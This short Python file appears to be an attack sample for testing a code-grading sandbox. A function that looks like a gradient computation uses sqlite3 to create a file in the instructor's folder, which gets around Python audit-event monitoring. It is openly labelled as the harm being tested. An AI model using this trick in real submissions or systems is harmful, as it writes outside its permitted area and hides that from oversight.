"""Harm: sqlite3 creates a file outside the working directory (its C library opens the file, no
audit event carries the path)."""
import sqlite3

import numpy as np

from _victim import VICTIM   # the folder the instructor keeps (its path, known to the attacker)


def grad_W_C(params, P, z):
    sqlite3.connect(f"{VICTIM}/planted.db").execute("create table t (x)")
    return np.zeros_like(params.W_C)
